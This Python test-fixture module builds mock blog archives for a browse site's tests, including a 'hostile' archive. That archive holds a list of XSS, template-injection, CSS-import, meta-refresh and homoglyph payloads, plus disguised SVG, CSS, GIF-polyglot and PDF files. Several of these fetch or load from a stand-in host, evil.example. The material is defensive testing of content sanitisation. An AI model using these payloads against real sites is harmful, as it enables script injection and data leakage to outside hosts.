"""Archives for the browse site's tests: a small blog edited once, and one whose every word is an attack."""

from __future__ import annotations

import struct
import zlib
from collections.abc import Callable, Sequence
from dataclasses import dataclass, field
from datetime import UTC, datetime
from pathlib import Path
from typing import Any

from archive.folder import ArchiveFolder
from archive.model import Evidence, Image, Post, Reading
from archive.store import Store
from archive.warc import Exchange, WarcWriter

FIRST = datetime(2026, 3, 2, 9, 0, tzinfo=UTC)
SECOND = datetime(2026, 3, 9, 9, 0, tzinfo=UTC)
BLOG = "https://blog.example"


@dataclass(frozen=True, kw_only=True, slots=True)
class Page:
    """One post with the reading made of it, the page it was read from, and images the archive holds."""

    post: Post
    reading: Reading
    served: str
    images: dict[str, bytes] = field(default_factory=dict)
    files: Sequence[tuple[str, bytes, str, str]] = ()
    """What else the archive holds for the page: address, content, type it was served as, role."""


def png(red: int = 140, green: int = 28, blue: int = 43) -> bytes:
    """A picture of one colour, four by three pixels."""

    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    rows = b"".join(b"\0" + bytes((red, green, blue)) * 4 for _ in range(3))
    header = struct.pack(">IIBBBBB", 4, 3, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", zlib.compress(rows)) + chunk(b"IEND", b"")


def said(name: str, value: str, printed: str, where: str = "content/p[1]", confidence: float = 0.97) -> Evidence:
    return Evidence(field=name, value=value, printed=printed, where=where, rule="head-block", confidence=confidence)


def a_page(slug: str, *, served: str = "", images: dict[str, bytes] | None = None, **facts: Any) -> Page:
    """A repost; *facts* replace what its page shows, and, by the same names, what is read from it."""
    read = {
        name: facts.pop(name) for name in ("outlet", "authors", "original_on", "confidence", "kind") if name in facts
    }
    reading: dict[str, Any] = {
        "kind": "repost",
        "completeness": "full",
        "outlet": "The Detroit News",
        "authors": ("Marta Quill",),
        "original_on": "2026-02-27",
        "confidence": 0.97,
        "reader": "test",
        **read,
    }
    outlet, authors, day = reading["outlet"], reading["authors"], reading["original_on"]
    evidence = [said("kind", reading["kind"], outlet or "")] + [
        said(name, value, value)
        for name, value in (("outlet", outlet), ("original_on", day), ("authors", ", ".join(authors)))
        if value
    ]
    head = [line for line in (outlet, day, ", ".join(authors)) if line]
    text = facts.pop(
        "text", "The dry dock took its first freighter on Monday.\nTool and die shops nearby expect more work."
    )
    lines = [*head, *text.splitlines()]
    shown: dict[str, Any] = {
        "url": f"{BLOG}/{slug}/",
        "title": "Dry dock reopens after a winter of repairs",
        "text": "\n".join(lines),
        "html": "".join(f"<p>{line}</p>" for line in lines),
        "posted_on": "2026-03-01",
        "categories": ("Media Coverage",),
        "tags": ("ports",),
        "language": "en-US",
        **facts,
    }
    post = Post(**shown)
    page = served or f"<!doctype html><title>{slug}</title><h1>{post.title}</h1>{post.html}"
    made = Reading(**{**reading, "outlet_printed": outlet, "evidence": tuple(evidence)})
    return Page(post=post, reading=made, served=page, images=images or {})


def file_away(folder: Path, first: Sequence[Page], second: Sequence[Page] = (), *, title: str = "Harbor Line") -> Path:
    """An archive of two runs a week apart; returns its database."""
    archive = ArchiveFolder(path=folder)
    with archive.writing("a test") as store:
        with store.atomic():
            site = store.custody.save_site("blog", f"{BLOG}/", title=title, language="en", house_names=())
        for pages, at in ((first, FIRST), (second, SECOND)):
            if pages:
                _run(store, archive, site, pages, at)
        store.db.execute("pragma wal_checkpoint(truncate)").fetchall()
    return archive.db_path


def _run(store: Store, archive: ArchiveFolder, site: int, pages: Sequence[Page], at: datetime) -> None:
    outcomes = []
    with store.atomic():
        run = store.custody.start_run(site, "full", {})
    with (
        WarcWriter(
            archive.warc_path, site="blog", started_at=at, info={}, find_original=store.custody.find_original
        ) as warc,
        store.atomic(),
    ):
        keep = _keeper(store, warc, run, at)
        for page in pages:
            capture = keep(page.post.url, page.served.encode(), "text/html; charset=utf-8", "post")
            for url, body in page.images.items():
                keep(url, body, "image/png", "image")
            for file in page.files:
                keep(*file)
            seen_at = at.strftime("%Y-%m-%dT%H:%M:%SZ")
            saved = store.posts.save(site, run, page.post, page.reading, capture_id=capture, seen_at=seen_at)
            outcomes.append(saved.outcome)
        counts = {name: outcomes.count(name) for name in ("new", "changed", "unchanged")}
        report = {"requests": len(pages), "bytes": 4096, "seen": len(pages), "gone": 0, "errors": 0, **counts}
        store.custody.finish_run(run, "done", reason=None, report=report)


def _keeper(store: Store, warc: WarcWriter, run: int, at: datetime) -> Callable[[str, bytes, str, str], int]:
    def keep(url: str, body: bytes, content_type: str, role: str) -> int:
        exchange = Exchange(
            url=url,
            at=at,
            status=200,
            reason="OK",
            response_headers=(("Content-Type", content_type),),
            body=body,
            ip=None,
        )
        record = warc.write(exchange)
        return store.custody.save_capture(run, exchange, record, role)

    return keep


PICTURE = f"{BLOG}/wp-content/uploads/dock.png"


def harbor_line(folder: Path) -> Path:
    """A dozen posts of a few outlets and years, one of them edited, one with a picture, one doubtful, one its own."""
    dock = {
        "html": "<p>The Detroit News</p><p>2026-02-27</p><p>Marta Quill</p><h4>At the dock</h4>"
        f"<p>The dry dock took its first freighter on Monday.</p>"
        f'<figure><img src="{PICTURE}" alt="The dock at dawn"></figure>'
        f'<figure><img src="{BLOG}/lost.png" alt="A crane"></figure>',
        "images": {PICTURE: png()},
        "served": '<!doctype html><title>Dry dock</title><link rel="preconnect" href="https://cdn.example">'
        '<p id="printed">The Detroit News / February 27, 2026</p><img src="/wp-content/uploads/dock.png" alt="dock">'
        "<script>document.title='ran'</script>",
    }
    others = [
        a_page(
            f"clip-{n}",
            title=f"{what} in year {n}",
            outlet=outlet,
            authors=(who,),
            original_on=f"20{10 + n}-0{1 + n % 9}-14",
            posted_on=f"20{10 + n}-0{1 + n % 9}-{15 + n}",
            text=f"{what} is what this piece is about.\nTool and die makers agree.",
        )
        for n, (what, outlet, who) in enumerate(
            (
                ("Salt under the river", "Bridge Michigan", "Lena Marchand"),
                ("Ferries plug in", "Grist", "Odile Warrington"),
                ("A lock at the Soo", "The Detroit News", "Marta Quill"),
                ("Castings by air", "Automotive News", "Corrine Vasko"),
                ("Wages at the press", "The Detroit News", "Marta Quill"),
                ("Batteries for towns", "Bridge Michigan", "Lena Marchand"),
            )
        )
    ]
    own = a_page(
        "summit", title="Winter Summit", kind="own", outlet=None, authors=(), original_on=None, confidence=0.95
    )
    doubtful = a_page("quiet", title="The quiet show", outlet="Date", confidence=0.55)
    edited = {**dock, "title": "Dry dock reopens after repairs", "text": "The dry dock took two freighters on Monday."}
    return file_away(folder, [a_page("dock", **dock), *others, own, doubtful], [a_page("dock", **edited)])


BITES: tuple[str, ...] = (
    "<script>window.top.bitten=1;bitten=1</script>",
    "<img src=x onerror=\"window.top.bitten=1;fetch('https://evil.example/a')\">",
    "<svg onload=bitten=1><script>bitten=1</script></svg>",
    "</textarea></title></style></script><script>bitten=1</script>",
    "javascript:bitten=1",
    '"><iframe src="https://evil.example/frame"></iframe>',
    "' onmouseover='bitten=1' autofocus onfocus='bitten=1",
    "{{ 7*7 }}{% include 'x' %}",
    "<style>@import 'https://evil.example/s.css';body{background:url(https://evil.example/b)}</style>",
    "<link rel=preconnect href=https://evil.example><base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/r'>",
    "\u202egnp.exe\u202c \u2066isolated\u2069 аpple.com",
    "<form action=https://evil.example/f><input name=q value=1><button>go</button></form>",
    "--></script><!--<script>bitten=1//",
)
"""Words that would run, load or lead astray where a page let them through."""


EVIL_STYLE = b"""@import "https://evil.example/i.css"; @import "again.css"; @font-face { font-family: e;
src: url(https://evil.example/f.woff2) } body { font-family: e; background: url(//evil.example/b.png), url(drawing.svg);
behavior: url(https://evil.example/x.htc); width: expression(bitten=1); list-style: url("javascript:bitten=1") }
</style><script>bitten=1</script><img src=https://evil.example/s.png> """
EVIL_DRAWING = b"""<svg xmlns="http://www.w3.org/2000/svg" xmlns:x="http://www.w3.org/1999/xlink" onload="bitten=1">
<script>window.top.bitten=1;bitten=1;fetch("https://evil.example/svg")</script><style>@import
"https://evil.example/svg.css";</style><image x:href="https://evil.example/svg.png" width="9" height="9"/>
<foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="https://evil.example/frame"/></foreignObject></svg>"""
EVIL_PAGE = (
    b"<!doctype html><script>bitten=1;fetch('https://evil.example/p')</script><img src=https://evil.example/p.png>"
)
POLYGLOT = b"GIF89a/*\x01\x00\x01\x00\x80\x00\x00*/=1;window.top.bitten=1;bitten=1;//<script>bitten=1</script>"

EVIL = "https://blog.example/evil"
EVIL_FILES: Sequence[tuple[str, bytes, str, str]] = (
    (f"{EVIL}/style.css", EVIL_STYLE, "text/css", "stylesheet"),
    (f"{EVIL}/again.css", b"@import 'style.css'; p { background: url(polyglot.gif) }", "text/css", "stylesheet"),
    (f"{EVIL}/drawing.svg", EVIL_DRAWING, "image/svg+xml", "image"),
    (f"{EVIL}/page.png", EVIL_PAGE, "image/png", "image"),
    (f"{EVIL}/page.svg", EVIL_PAGE, "image/svg+xml", "image"),
    (f"{EVIL}/polyglot.gif", POLYGLOT, "image/gif", "image"),
    (f"{EVIL}/script.gif", POLYGLOT, "text/html", "image"),
    (f"{EVIL}/picture.png", png(), "image/png", "image"),
    (f"{EVIL}/report.pdf", b"%PDF-1.4 1 0 obj << /OpenAction << /S /URI /URI (https://evil.example/pdf) >> >>",
     "application/pdf", "attachment"),
)  # fmt: skip
EVIL_PAGE_SERVED = """<!doctype html><title>Files</title><link rel=stylesheet href=/evil/style.css>
<p id=first>captured</p>
<img id=held src=/evil/picture.png><img src=/evil/drawing.svg><img src=/evil/page.png><img src=/evil/page.svg>
<img src=/evil/polyglot.gif srcset="https://evil.example/set.png 2x"><script src=/evil/polyglot.gif></script>
<script src=/evil/script.gif></script><object data=/evil/drawing.svg></object><embed src=/evil/page.svg>
<iframe src=/evil/page.png></iframe><picture><source srcset=https://evil.example/webp><img src=/evil/lost.png></picture>
<p style="background:url('https://evil.example/attribute.png')">end</p>
<style>@import url(https://evil.example/in.css);</style>
<video poster=https://evil.example/poster.png src=https://evil.example/film.mp4 autoplay></video>
<svg><image href=https://evil.example/use.png /><use href="/evil/drawing.svg#x" /></svg>
<body background=//evil.example/bg>"""


def hostile(folder: Path) -> Path:
    """Every bite as headline, outlet, author, text, markup, category, image name, address and as the served page."""
    pages = []
    for n, bite in enumerate(BITES):
        page = a_page(
            f"bite-{n}",
            title=f"{bite} {n}",
            outlet=f"Outlet {bite}",
            authors=(f"Author {bite}", f"Second {n}"),
            text=f"Text {bite}\nMore {bite}",
            html=f"<p>Reading {bite}</p><a href='javascript:bitten=1'>x</a><img src=https://evil.example/i.png>",
            categories=(f"Category {bite}", "Media Coverage"),
            tags=(bite,),
            site_author=bite,
            language='en" onload="bitten=1' if n % 2 else "en",
            images=None,
            served=f"<!doctype html><html><head><title>{bite}</title>{bite}</head><body>{bite}<p>captured {n}</p>"
            f"<a id=out href=https://evil.example/click target=_top>out</a><img src=https://evil.example/p{n}.png>",
        )
        evidence = tuple(
            said(name, bite, bite, where=bite) for name in ("kind", "outlet", "authors", "original_on", "original_url")
        )
        facts = {
            "original_url": "javascript:bitten=1",
            "image_credit": bite,
            "evidence": evidence,
            "outlet_printed": bite,
        }
        post = _with(page.post, images=(Image(url=f"https://evil.example/{bite}.png", alt=bite, caption=bite),))
        pages.append(Page(post=post, reading=_with(page.reading, **facts), served=page.served))
    pages.append(evil_files())
    again = [
        Page(post=_with(p.post, text=p.post.text + "\nedit " + BITES[0]), reading=p.reading, served=p.served)
        for p in pages
        if not p.files
    ]
    return file_away(folder, pages, again, title=f"Blog {BITES[0]}")


def evil_files() -> Page:
    """A post whose files are not what they seem."""
    shown = "".join(f"<img src={url}>" for url, *_ in EVIL_FILES)
    page = a_page("evil", title="Files that are not what they seem", html=shown, served=EVIL_PAGE_SERVED)
    return Page(post=page.post, reading=page.reading, served=page.served, files=EVIL_FILES)


def _with(value: Any, **facts: Any) -> Any:
    names = value.__dataclass_fields__
    return type(value)(**{**{name: getattr(value, name) for name in names}, **facts})
